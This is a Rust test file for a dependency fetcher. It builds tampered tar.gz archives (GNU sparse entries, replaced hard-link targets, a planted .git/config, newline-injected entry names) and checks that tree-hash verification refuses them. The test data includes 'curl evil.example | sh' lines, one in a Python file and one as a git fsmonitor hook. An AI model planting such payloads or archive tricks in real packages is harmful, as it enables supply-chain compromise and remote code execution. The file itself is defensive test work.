//! Archives built to hash to the locked tree while unpacking to another one, through each
//! way a reader of its own once disagreed with the unpacker: a GNU sparse entry, a hard
//! link to a file replaced later, a `.git/` directory. Served from a mirror directory as
//! `fetch --mirror DIR --accept-tree-match` does; what is hashed is what is written, so
//! each is refused or unpacks to exactly the locked tree.

mod common;

use std::path::{Path, PathBuf};

use common::*;
use commstack_fetch::tree::{Strip, tree_sha256, tree_sha256_dir, unpack_verified};
use commstack_fetch::{
    Artifact, Cache, FetchError, Mirror, Provenance, SourceError, TreeCheck, fetch_all,
};
use tar::{EntryType, Header};

const GOOD: &[u8] = b"from setuptools import setup\nsetup(name='deep_ep')\n";
const EVIL: &[u8] = b"import os\nos.system('curl evil.example | sh')\n";

/// The locked tree: DeepEP's layout, `tools/helper.py` holding what the hard-link archive
/// later smuggles into `setup.py` (any file of the tree can serve).
fn locked_tree(root: &Path) -> PathBuf {
    let top = root.join("DeepEP-567632d");
    for (path, data) in [
        ("setup.py", GOOD),
        ("tools/helper.py", EVIL),
        ("csrc/deep_ep.cpp", b"int x;\n".as_slice()),
    ] {
        std::fs::create_dir_all(top.join(path).parent().unwrap()).unwrap();
        std::fs::write(top.join(path), data).unwrap();
    }
    top
}

fn octal(n: u64) -> [u8; 12] {
    let mut out = [0u8; 12];
    out[..11].copy_from_slice(format!("{n:011o}").as_bytes());
    out
}

/// A tar.gz of `entries`: (kind, path, link target or data).
fn tar_gz(entries: &[(EntryType, &str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (kind, path, payload) in entries {
        let mut h = Header::new_gnu();
        h.set_path(path).unwrap();
        h.set_mode(0o644);
        h.set_entry_type(*kind);
        let data: &[u8] = match kind {
            EntryType::Link | EntryType::Symlink => {
                h.set_link_name(std::str::from_utf8(payload).unwrap())
                    .unwrap();
                b""
            }
            _ => payload,
        };
        h.set_size(data.len() as u64);
        if *kind == EntryType::GNUSparse {
            // One region covering the whole file: the data as stored.
            let gnu = h.as_gnu_mut().unwrap();
            gnu.sparse[0].offset = octal(0);
            gnu.sparse[0].numbytes = octal(data.len() as u64);
            gnu.realsize = octal(data.len() as u64);
        }
        h.set_cksum();
        b.append(&h, data).unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &b.into_inner().unwrap()).unwrap();
    gz.finish().unwrap()
}

fn base() -> Vec<(EntryType, &'static str, &'static [u8])> {
    vec![
        (
            EntryType::Regular,
            "DeepEP-567632d/csrc/deep_ep.cpp",
            b"int x;\n",
        ),
        (EntryType::Regular, "DeepEP-567632d/tools/helper.py", EVIL),
    ]
}

/// `setup.py` written twice: the plain entry first, then a GNU sparse entry of the same
/// path, which a reader that skips sparse entries never sees.
fn sparse_archive() -> Vec<u8> {
    let mut e = base();
    e.push((EntryType::Regular, "DeepEP-567632d/setup.py", GOOD));
    e.push((EntryType::GNUSparse, "DeepEP-567632d/setup.py", EVIL));
    tar_gz(&e)
}

/// `setup.py` a hard link to `tools/helper.py` while it holds GOOD, then `helper.py`
/// replaced: a snapshot reading hashes GOOD, the link on disk is the final file.
fn hard_link_archive() -> Vec<u8> {
    tar_gz(&[
        (
            EntryType::Regular,
            "DeepEP-567632d/csrc/deep_ep.cpp",
            b"int x;\n",
        ),
        (EntryType::Regular, "DeepEP-567632d/tools/helper.py", GOOD),
        (
            EntryType::Link,
            "DeepEP-567632d/setup.py",
            b"DeepEP-567632d/tools/helper.py",
        ),
        (EntryType::Regular, "DeepEP-567632d/tools/helper.py", EVIL),
    ])
}

/// The locked tree plus a `.git/config` (git runs `core.fsmonitor` when a build script
/// asks it for the revision), once beside the top directory, once inside it.
fn git_archives() -> [Vec<u8>; 2] {
    let config: &[u8] = b"[core]\n\tfsmonitor = curl evil.example | sh\n";
    let mut beside = base();
    beside.push((EntryType::Regular, "DeepEP-567632d/setup.py", GOOD));
    beside.push((EntryType::Regular, ".git/config", config));
    let mut inside = base();
    inside.push((EntryType::Regular, "DeepEP-567632d/setup.py", GOOD));
    inside.push((EntryType::Regular, "DeepEP-567632d/.git/config", config));
    [tar_gz(&beside), tar_gz(&inside)]
}

struct Setup {
    _dir: tempfile::TempDir,
    mirror: PathBuf,
    cache: PathBuf,
    tree: String,
}

fn setup() -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let tree = tree_sha256_dir(&locked_tree(&dir.path().join("clean"))).unwrap();
    let mirror = dir.path().join("mirror");
    std::fs::create_dir_all(&mirror).unwrap();
    Setup {
        mirror,
        cache: dir.path().join("cache"),
        tree,
        _dir: dir,
    }
}

const NAME: &str = "DeepEP-567632d.tar.gz";

/// Both pins: NVSHMEM's (a release tarball's sha256 and a tree hash, the mirror's repack
/// accepted with --accept-tree-match) and DeepEP's (a tree hash alone).
fn artifacts(s: &Setup) -> [Artifact; 2] {
    let url = format!("https://upstream.invalid/{NAME}");
    let release = sha256(b"the upstream release tarball's bytes");
    [
        Artifact::new("nvshmem", &url, &release)
            .unwrap()
            .with_tree_sha256(&s.tree),
        Artifact::tree_only("deepep", &url, &s.tree).unwrap(),
    ]
}

/// The tree the tampered archives really are: the locked one with EVIL in `setup.py`.
fn tampered_tree() -> String {
    let dir = tempfile::tempdir().unwrap();
    let top = locked_tree(dir.path());
    std::fs::write(top.join("setup.py"), EVIL).unwrap();
    tree_sha256_dir(&top).unwrap()
}

/// Fetches `archive` from the mirror as each pin, accepting tree matches: both refused,
/// with the tree it really unpacks to named, and nothing cached.
fn assert_refused(archive: &[u8]) {
    let s = setup();
    let tampered = tampered_tree();
    std::fs::write(s.mirror.join(NAME), archive).unwrap();
    let mut options = options(&s.cache);
    options.mirrors = vec![Mirror::Dir(s.mirror.clone())];
    options.offline = true;
    options.accept_tree_match = true;
    for artifact in artifacts(&s) {
        let err = fetch_all(std::slice::from_ref(&artifact), &options).unwrap_err();
        let FetchError::Offline(failures) = &err else {
            panic!("{err}")
        };
        let refused = match &failures[0].attempts[0].error {
            SourceError::HashMismatch {
                tree: TreeCheck::Differs { actual },
                ..
            }
            | SourceError::TreeMismatch {
                found: TreeCheck::Differs { actual },
                ..
            } => actual == &tampered,
            _ => false,
        };
        assert!(
            refused,
            "{} accepted or refused for another reason: {err}",
            artifact.name
        );
        assert_cache_holds(&s.cache, &[]);
    }
}

#[test]
fn a_sparse_entry_cannot_hide_a_changed_setup_py_from_the_tree_hash() {
    assert_refused(&sparse_archive());
}

#[test]
fn a_hard_link_to_a_replaced_file_cannot_hide_a_changed_setup_py() {
    assert_refused(&hard_link_archive());
}

/// A `.git/` is not part of the tree: the archive is the locked tree and is accepted, and
/// the source step writes exactly that tree, without the `.git`.
#[test]
fn a_git_directory_is_accepted_as_the_tree_and_never_written() {
    for archive in git_archives() {
        let s = setup();
        std::fs::write(s.mirror.join(NAME), &archive).unwrap();
        let mut options = options(&s.cache);
        options.mirrors = vec![Mirror::Dir(s.mirror.clone())];
        options.offline = true;
        options.accept_tree_match = true;
        let fetched = fetch_all(&artifacts(&s), &options).unwrap();
        assert!(matches!(
            fetched[0].provenance,
            Provenance::TreeMatch { .. }
        ));
        assert!(matches!(
            fetched[1].provenance,
            Provenance::LockedTree { .. }
        ));
        let out = s.cache.join("../src");
        unpack_verified(&fetched[1].path, &out, Strip::TopDirIfSingle, &s.tree).unwrap();
        assert_eq!(std::fs::read(out.join("setup.py")).unwrap(), GOOD);
        assert_eq!(tree_sha256_dir(&out).unwrap(), s.tree);
        let git = walkdir::WalkDir::new(&out)
            .into_iter()
            .filter(|e| e.as_ref().unwrap().file_name() == ".git")
            .count();
        assert_eq!(git, 0, "a .git was written");
    }
}

/// What the source steps run after fetching: a file that changed in the cache since it was
/// checked is refused after unpacking, and nothing is left.
#[test]
fn unpack_verified_refuses_a_tree_other_than_the_expected_and_leaves_nothing() {
    let s = setup();
    for (archive, strip) in [
        (sparse_archive(), Strip::TopDirIfSingle),
        (hard_link_archive(), Strip::TopDir),
    ] {
        let path = s.mirror.join(NAME);
        std::fs::write(&path, &archive).unwrap();
        let out = s.mirror.join("out");
        let err = unpack_verified(&path, &out, strip, &s.tree)
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("gives the tree") && err.contains(&s.tree),
            "{err}"
        );
        assert!(!out.exists());
        let left: Vec<_> = std::fs::read_dir(&s.mirror).unwrap().collect();
        assert_eq!(left.len(), 1, "{left:?}");
    }
}

/// The three archives hash as what they unpack to (the definition's first step).
#[test]
fn an_archive_hashes_as_the_tree_it_unpacks_to() {
    let s = setup();
    for archive in [
        sparse_archive(),
        hard_link_archive(),
        git_archives()[0].clone(),
    ] {
        let path = s.mirror.join(NAME);
        std::fs::write(&path, &archive).unwrap();
        let out = s.mirror.join("out");
        let _ = std::fs::remove_dir_all(&out);
        commstack_archive::unpack(&path, &out, &Default::default()).unwrap();
        let _ = std::fs::remove_dir_all(out.join(".git"));
        assert_eq!(
            tree_sha256(&path, NAME).unwrap(),
            tree_sha256_dir(&out).unwrap()
        );
    }
}

/// An archive accepted once by tree hash is used by later fetches without the flag (no
/// network), still marked as a tree match, and held to the sha256 recorded for it.
#[test]
fn an_accepted_tree_match_is_remembered_and_held_to_its_sha256() {
    let s = setup();
    let clean = tar_gz(&[
        (
            EntryType::Regular,
            "DeepEP-567632d/csrc/deep_ep.cpp",
            b"int x;\n",
        ),
        (EntryType::Regular, "DeepEP-567632d/tools/helper.py", EVIL),
        (EntryType::Regular, "DeepEP-567632d/setup.py", GOOD),
    ]);
    std::fs::write(s.mirror.join(NAME), &clean).unwrap();
    let [nvshmem, _] = artifacts(&s);
    let mut accepting = options(&s.cache);
    accepting.mirrors = vec![Mirror::Dir(s.mirror.clone())];
    accepting.offline = true;
    accepting.accept_tree_match = true;
    let first = fetch_all(std::slice::from_ref(&nvshmem), &accepting).unwrap();
    let Provenance::TreeMatch { actual_sha256, .. } = &first[0].provenance else {
        panic!("{:?}", first[0].provenance)
    };
    assert_eq!(actual_sha256, &sha256(&clean));

    // A plain fetch: no mirror, no flag, offline (so no socket could be opened).
    let mut plain = options(&s.cache);
    plain.offline = true;
    let again = fetch_all(std::slice::from_ref(&nvshmem), &plain).unwrap();
    assert_eq!(again[0].provenance, first[0].provenance);
    assert!(again[0].deviation().unwrap().contains("TREE MATCH"));
    assert!(
        commstack_fetch::not_cached(std::slice::from_ref(&nvshmem), &plain)
            .unwrap()
            .is_empty()
    );

    // The recorded file changed on disk: not used (quarantined), so the fetch fails.
    std::fs::write(&again[0].path, b"other bytes").unwrap();
    let err = fetch_all(std::slice::from_ref(&nvshmem), &plain).unwrap_err();
    assert!(matches!(err, FetchError::Offline(_)), "{err}");
    assert!(Cache::new(&s.cache).ls().unwrap().is_empty());
}

/// A hard link named with newlines, to nothing: the archive is refused, and the fetch
/// report keeps the name in its line (no forged "all archives verified" line).
#[test]
fn a_newline_in_an_entry_name_cannot_forge_a_line_of_the_report() {
    let s = setup();
    let archive = tar_gz(&[
        (EntryType::Regular, "DeepEP-567632d/setup.py", GOOD),
        (
            EntryType::Link,
            "DeepEP-567632d/x\nall archives verified\n",
            b"DeepEP-567632d/missing",
        ),
    ]);
    std::fs::write(s.mirror.join(NAME), archive).unwrap();
    let mut options = options(&s.cache);
    options.mirrors = vec![Mirror::Dir(s.mirror.clone())];
    options.offline = true;
    options.accept_tree_match = true;
    for artifact in artifacts(&s) {
        let err = fetch_all(std::slice::from_ref(&artifact), &options)
            .unwrap_err()
            .to_string();
        assert!(
            err.lines().all(|l| !l.starts_with("all archives verified")),
            "{err}"
        );
        assert!(err.contains("x\\nall archives verified\\n"), "{err}");
    }
}
